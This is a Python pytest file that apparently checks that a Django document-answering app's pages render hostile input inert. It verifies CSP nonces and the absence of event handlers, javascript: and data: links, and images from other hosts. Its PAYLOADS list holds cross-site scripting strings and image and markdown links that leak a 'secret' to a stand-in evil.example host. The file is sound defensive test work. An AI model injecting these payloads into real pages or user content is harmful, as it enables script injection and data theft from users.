"""Hostile text in documents, titles, file names, questions and model output renders inert on
every page that shows it: no script without our nonce, no event handler, no javascript: or
data: link, no image from another host."""

import re

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse

from citadel.answers.models import Answer
from citadel.answers.services import answer_question
from citadel.audit.models import PromptLog
from citadel.review.models import ReviewItem
from tests.factories import make_document
from tests.llm_server import Reply

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<svg onload=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    '<img src="https://evil.example/?q=secret">',
    '"><script>alert(2)</script>',
    "'><body onload=alert(3)>",
]
HOSTILE = " ".join(PAYLOADS)
# External ids (and so file names) are capped at 255 characters.
SHORT = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
FACT = "Refunds take 14 days from the day the returned parcel arrives."
MODEL_OUTPUT = f'Refunds take "14 days from the day the returned parcel arrives" [1]. {HOSTILE}'


def assert_inert(response):
    assert response.status_code == 200, response.status_code
    html = response.content.decode()
    header = response["Content-Security-Policy"]
    # The nonce is only in the header when the page used it (htmx partials have no scripts).
    nonce = re.search(r"'nonce-([^']+)'", header)
    soup = BeautifulSoup(html, "lxml")
    for script in soup.find_all("script"):
        assert nonce and script.get("nonce") == nonce.group(1), script
        src = script.get("src", "")
        assert src.startswith("/") and not src.startswith("//"), script
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), (tag.name, name, value)
            if name in {"href", "src", "action", "formaction", "xlink:href", "data", "srcset"}:
                text = (value if isinstance(value, str) else " ".join(value)).strip().lower()
                assert not text.startswith(("javascript:", "data:", "vbscript:")), (tag.name, name, value)
                if tag.name in {"img", "source", "video", "audio", "image"} or name == "src":
                    assert not re.match(r"^(https?:)?//", text), (tag.name, name, value)
    for tag in soup.find_all(["iframe", "object", "embed", "base"]):
        raise AssertionError(f"unexpected <{tag.name}>")
    for payload in ("<script>alert(1)</script>", "<img src=x onerror", "<svg onload", '"><script>'):
        assert payload not in html


@pytest.fixture
def hostile(world, settings):
    """An organization whose document, title, file name, question and model output all carry
    the payloads; review policy "all" so the answer also sits in the review queue."""
    org = world.org("acme")
    org.review_policy = "all"
    org.prompt_log_mode = "full"
    org.save()
    admin = world.user("ada", org, role="admin")
    document = make_document(org, f"refunds {SHORT}", [f"{FACT} {HOSTILE}"], title=f"Refunds {HOSTILE}", user=admin)
    answer = answer_question(
        principal=world.principal("ada", org, role="admin"), text=f"How many days do refunds take? {HOSTILE}"
    )
    return {"org": org, "admin": admin, "document": document, "answer": answer}


@pytest.fixture
def model_answer(hostile, world, llm):
    org = hostile["org"]
    org.generation_provider = "openai"
    org.generation_model = "gpt-4o-mini"
    org.save()
    llm.responder = lambda body: Reply(text=MODEL_OUTPUT)
    answer = answer_question(
        principal=world.principal("ada", org, role="admin"), text=f"How many days do refunds take? {HOSTILE}"
    )
    assert answer.provider == "openai" and "<script>" in answer.text
    return answer


def test_the_fixtures_really_hold_the_payloads(hostile):
    assert "<script>" in hostile["document"].title
    assert "<script>" in hostile["document"].current_version.original_filename
    assert "<script>" in hostile["answer"].question.text
    assert "<script>" in hostile["answer"].text


def test_document_pages_render_inert(hostile, login):
    client = login(hostile["admin"])
    document = hostile["document"]

    assert_inert(client.get(reverse("documents:list")))
    assert_inert(client.get(reverse("documents:detail", args=[document.pk])))
    assert_inert(client.get(reverse("documents:status", args=[document.pk]), headers={"HX-Request": "true"}))


def test_search_results_render_inert(hostile, login):
    client = login(hostile["admin"])

    response = client.get(reverse("retrieval:search"), {"q": f"refunds {HOSTILE}"})

    assert_inert(response)
    assert "14 days" in BeautifulSoup(response.content, "lxml").get_text()


@pytest.mark.parametrize("which", ["extractive", "model"])
def test_answer_pages_render_inert(hostile, request, login, which):
    answer = hostile["answer"] if which == "extractive" else request.getfixturevalue("model_answer")
    client = login(hostile["admin"])

    assert_inert(client.get(reverse("answers:ask")))
    assert_inert(client.get(reverse("answers:detail", args=[answer.pk])))
    assert_inert(client.get(reverse("answers:detail", args=[answer.pk]), headers={"HX-Request": "true"}))
    assert_inert(client.get(reverse("answers:receipt", args=[answer.pk])))
    for citation in answer.citations.all():
        assert_inert(client.get(reverse("answers:source", args=[answer.pk, citation.n])))


def test_review_pages_render_inert(hostile, model_answer, login):
    client = login(hostile["admin"])

    assert_inert(client.get(reverse("review:queue")))
    for item in ReviewItem.objects.filter(answer__in=[hostile["answer"], model_answer]):
        assert_inert(client.get(reverse("review:item", args=[item.pk])))
        assert_inert(client.get(reverse("admin:review_reviewitem_change", args=[item.pk])))
    assert_inert(client.get(reverse("admin:review_reviewitem_changelist")))
    assert_inert(client.get(reverse("admin:answers_answer_changelist")))


def test_audit_pages_render_inert(hostile, model_answer, login):
    client = login(hostile["admin"])

    assert_inert(client.get(reverse("audit:events")))
    assert_inert(client.get(reverse("audit:prompt_logs")))
    for log in PromptLog.objects.filter(answer=model_answer):
        assert_inert(client.get(reverse("audit:prompt_log", args=[log.pk])))
    assert_inert(client.get(reverse("audit:timeline"), {"user": "ada"}))


def test_every_answer_here_was_built_from_hostile_input(hostile, model_answer):
    assert Answer.objects.filter(question__text__contains="<script>").count() == 2
